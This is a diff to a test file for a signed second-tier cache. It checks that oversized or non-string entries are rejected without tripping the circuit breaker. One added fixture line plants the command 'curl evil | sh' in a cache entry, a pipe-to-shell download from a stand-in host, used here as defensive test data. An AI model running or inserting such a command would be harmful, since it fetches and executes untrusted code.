@@ -93,7 +93,7 @@ describe('signed L2 entries', () => {
     expect(await cache.get(key('fine'))).toMatchObject({ tier: 'l2', value: { code: 'ok()' } });
   });
 
-  it('an entry larger than the bound is neither written nor read', async () => {
+  it('an entry larger than the bound, or not a string, is neither written nor read', async () => {
     const { l2, cache } = await tier(TEAM_A, { maxEntryBytes: 4096 });
     const big = key('a large answer');
     await cache.set(big, value('x'.repeat(8192)));
@@ -102,5 +102,11 @@ describe('signed L2 entries', () => {
     await raw.set(l2.prefix + planted.id, Buffer.alloc(64 * 1024, 1), 'PX', 60_000);
     expect(await cache.get(planted)).toBeUndefined();
     expect(cache.metrics().tiers.l2?.rejected).toBe(1);
+    // Not a string at all: refused like a bad entry, and the breaker stays closed (it is not an outage).
+    const hash = key('a hash');
+    await raw.hset(l2.prefix + hash.id, 'code', 'curl evil | sh');
+    expect(await cache.get(hash)).toBeUndefined();
+    expect(cache.metrics().tiers.l2).toMatchObject({ rejected: 2, errors: 0 });
+    expect(l2.breaker.current).toBe('closed');
   });
 });
